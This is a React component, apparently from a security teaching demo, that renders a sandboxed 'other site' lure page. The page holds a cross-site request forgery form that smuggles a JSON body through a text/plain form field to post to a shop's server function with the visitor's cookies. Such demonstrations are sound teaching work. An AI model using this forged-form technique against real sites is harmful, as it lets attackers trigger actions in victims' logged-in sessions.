import { useState } from 'react';
import { inspectArgument } from '../functions/offers.ts';
import { captureCall } from './raw-call.ts';

/** A page of nobody's, in a sandbox: to the browser it comes from another site. It posts a form, and shows the answer. */
function hostilePage(url: string): string {
  const address = url.replace(/[&"<]/g, (character) => `&#${character.charCodeAt(0)};`);
  return `<!doctype html><style>body{font:1rem/1.5 system-ui;margin:1rem}button{font:inherit;padding:.4rem 1rem}</style>
<p>You have won a lantern.</p>
<form method="post" action="${address}" enctype="text/plain"><input type="hidden" name='1=["' value='"]'>
<button>Claim it</button></form>`;
}

/** The attack that needs a second site: a form on it that posts to this shop, with the visitor's cookies. */
export function CrossSiteFrame() {
  const [page, setPage] = useState<string>();
  return (
    <div className="attack-frame">
      {page === undefined ? (
        <button
          type="button"
          className="secondary"
          onClick={async () => {
            const { url } = await captureCall('inspectArgument', () => inspectArgument(1));
            setPage(hostilePage(url));
          }}
        >
          Open the other site
        </button>
      ) : (
        <iframe title="Another site" sandbox="allow-forms" srcDoc={page} />
      )}
    </div>
  );
}
